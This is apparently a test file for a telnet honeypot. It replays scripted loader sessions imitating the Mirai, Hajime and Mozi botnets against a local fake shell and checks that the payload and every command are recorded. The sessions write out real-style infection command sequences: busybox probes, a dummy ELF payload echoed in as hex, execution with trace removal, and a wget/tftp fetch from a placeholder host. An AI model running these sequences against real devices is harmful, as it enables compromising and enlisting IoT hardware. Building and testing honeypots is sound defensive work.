import { createHash } from 'node:crypto';
import { connect } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { startShell } from '../../deception/shell/start-shell.ts';
import type { Trap } from '../../trap.ts';
import { createTrapBench } from '../../trap-bench.ts';
import { telnetConfigSchema } from './config.ts';
import { createTelnetTrap } from './telnet-trap.ts';

/**
 * The ways in which the loaders of three families of bots go, once they are in: each waits for what its next step needs
 * and goes no further without it.
 */

/** A payload of 400 bytes that begins as an ELF file does. */
const PAYLOAD = Buffer.from(
  Array.from({ length: 400 }, (_, index) => Buffer.from('7f454c4601010100', 'hex')[index] ?? (index * 7) & 0xff),
);
const SHA256 = createHash('sha256').update(PAYLOAD).digest('hex');

const hex = (bytes: Uint8Array) => [...bytes].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('');
const pieces = (size: number) =>
  Array.from({ length: Math.ceil(PAYLOAD.length / size) }, (_, index) =>
    PAYLOAD.subarray(index * size, (index + 1) * size),
  );

type Step = readonly [waitsFor: string, says: string];

/** Mirai: looks for a shell, then for a place to write, the kind of machine, a way to download; here it must echo. */
const MIRAI: readonly Step[] = [
  ['# ', 'enable'],
  ['# ', 'system'],
  ['# ', 'shell'],
  ['# ', 'sh'],
  ['# ', '/bin/busybox ECCHI'],
  ['ECCHI: applet not found', '/bin/busybox ps; /bin/busybox ECCHI'],
  ['ECCHI: applet not found', '/bin/busybox cat /proc/mounts; /bin/busybox ECCHI'],
  [
    'ECCHI: applet not found',
    "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev/shm' > /dev/shm/.nippon; /bin/busybox cat /dev/shm/.nippon; /bin/busybox rm /dev/shm/.nippon; /bin/busybox ECCHI",
  ],
  ['kami/dev/shm', 'cd /dev/shm'],
  ['# ', '/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI'],
  ['ECCHI: applet not found', '/bin/busybox cat /bin/echo; /bin/busybox ECCHI'],
  ['\x7fELF', ''],
  ['ECCHI: applet not found', '/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI'],
  ['ECCHI: applet not found', '/bin/busybox cp /bin/echo upnp; >upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI'],
  ...pieces(128).map(
    (piece, index): Step => [
      'ECCHI: applet not found',
      `/bin/busybox echo -ne '${hex(piece)}' >${index === 0 ? '' : '>'} upnp; /bin/busybox ECCHI`,
    ],
  ),
  ['ECCHI: applet not found', './upnp; ./dvrHelper telnet.x86; /bin/busybox IHCCE'],
  ['IHCCE: applet not found', 'rm -rf upnp; > dvrHelper; /bin/busybox ECCHI'],
  ['ECCHI: applet not found', 'exit'],
  ['# ', 'exit'],
];

/** Hajime: tells the machine by 52 bytes of a copy of echo, asks what can download, and builds its stage from hex. */
const HAJIME: readonly Step[] = [
  ['# ', 'enable'],
  ['# ', 'system'],
  ['# ', 'shell'],
  ['# ', 'sh'],
  ['# ', 'cat /proc/mounts; /bin/busybox QWERT'],
  ['QWERT: applet not found', 'cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox QWERT'],
  ['QWERT: applet not found', '/bin/busybox tftp; /bin/busybox wget; /bin/busybox QWERT'],
  ['QWERT: applet not found', 'dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s'],
  ['\x7fELF', '/bin/busybox QWERT'],
  ['QWERT: applet not found', 'rm .s; >.s; /bin/busybox QWERT'],
  ...pieces(100).map(
    (piece): Step => ['QWERT: applet not found', `/bin/busybox echo -ne "${hex(piece)}" >> .s; /bin/busybox QWERT`],
  ),
  ['QWERT: applet not found', 'chmod 777 .s; ./.s > .i; chmod +x .i; ./.i; rm .s; /bin/busybox QWERT'],
  ['QWERT: applet not found', 'exit'],
  ['# ', 'exit'],
];

/** Mozi: tries folders, then every tool that could fetch its file, and at last printf. */
const MOZI: readonly Step[] = [
  ['# ', 'enable'],
  ['# ', 'shell'],
  ['# ', 'sh'],
  ['# ', 'cat /proc/cpuinfo | head -n 3; /bin/busybox MOZI7'],
  ['MOZI7: applet not found', 'cd /tmp || cd /var/run || cd /mnt; rm -rf .m; >.m && /bin/busybox MOZI7'],
  [
    'MOZI7: applet not found',
    '/bin/busybox wget http://192.0.2.7:5555/Mozi.m -O /tmp/.n; tftp -g -l .o -r Mozi.m 192.0.2.7; /bin/busybox MOZI7',
  ],
  ...pieces(200).map(
    (piece): Step => ['MOZI7: applet not found', `/bin/busybox printf '${hex(piece)}' >> .m; /bin/busybox MOZI7`],
  ),
  ['MOZI7: applet not found', 'chmod 777 .m && ./.m; rm -rf .m; /bin/busybox MOZI7'],
  ['MOZI7: applet not found', 'exit'],
  ['# ', 'exit'],
];

/** Goes the way of `steps`; resolves with the steps that were not reached. */
function load(port: number, steps: readonly Step[]): Promise<readonly string[]> {
  return new Promise((resolve, reject) => {
    const socket = connect({ port, host: '127.0.0.1', noDelay: true });
    const remaining: Step[] = [['login: ', 'root'], ['Password: ', '123456'], ...steps];
    let all = '';
    let from = 0;
    socket.on('data', (chunk: Buffer) => {
      const text = chunk.toString('latin1');
      // As the bots answer: yes to every offer, no to every question.
      const answers = [...text.matchAll(/\xff([\xfb\xfd])(.)/gs)].map(
        ([, verb, option]) => `\xff${verb === '\xfb' ? '\xfd' : '\xfc'}${option}`,
      );
      if (answers.length > 0) socket.write(answers.join(''), 'latin1');
      all += text;
      for (;;) {
        const [step] = remaining;
        const at = step === undefined ? -1 : all.indexOf(step[0], from);
        if (step === undefined || at < 0) return;
        from = at + step[0].length;
        remaining.shift();
        if (step[1] !== '') socket.write(`${step[1]}\r\n`);
      }
    });
    const timer = setTimeout(() => socket.destroy(), PATIENCE_MS);
    socket.on('close', () => {
      clearTimeout(timer);
      resolve(remaining.map(([waitsFor, says]) => `${waitsFor} -> ${says}`));
    });
    socket.on('error', reject);
  });
}

const PATIENCE_MS = 15_000;

describe('the loaders of bots go to their end', () => {
  const running: Trap[] = [];
  afterEach(async () => {
    await Promise.all(running.splice(0).map((trap) => trap.stop()));
  });

  it.each(
    ['web-server', 'router'].flatMap((persona) => [
      { persona, family: 'Mirai', steps: MIRAI },
      { persona, family: 'Hajime', steps: HAJIME },
      { persona, family: 'Mozi', steps: MOZI },
    ]),
  )('$family on the $persona', async ({ persona, steps }) => {
    const bench = createTrapBench({ startShell, persona });
    const { context } = bench;
    const trap = createTelnetTrap(
      telnetConfigSchema.parse({ address: '127.0.0.1', port: 0, failureDelayMs: 0, loginStartMs: 0 }),
      { ...context, hostFor: (address) => lettingIn(context.hostFor(address)) },
    );
    running.push(trap);
    const { port } = await trap.start();
    const left = await load(port, steps);
    expect(left).toEqual([]);
    await bench.untilClosed(1);
    expect(bench.of('file.uploaded').map(({ data }) => data.sha256)).toContain(SHA256);
    expect(Buffer.from(bench.artefacts.get(SHA256) ?? [])).toEqual(PAYLOAD);
    // Every line is recorded, also those that were typed into the shells within.
    const recorded = bench.of('command.entered').map(({ data }) => data.input);
    for (const [, line] of steps) if (line !== '') expect(recorded).toContain(line);
    expect(bench.errors).toEqual([]);
  });
});

/** The persona, with one password that is let in. */
function lettingIn<Machine extends object>(host: Machine): Machine {
  return new Proxy(host, {
    get(target, key) {
      if (key === 'checkPassword') return (name: string, password: string) => name === 'root' && password === '123456';
      const value: unknown = Reflect.get(target, key, target);
      return typeof value === 'function' ? value.bind(target) : value;
    },
  });
}
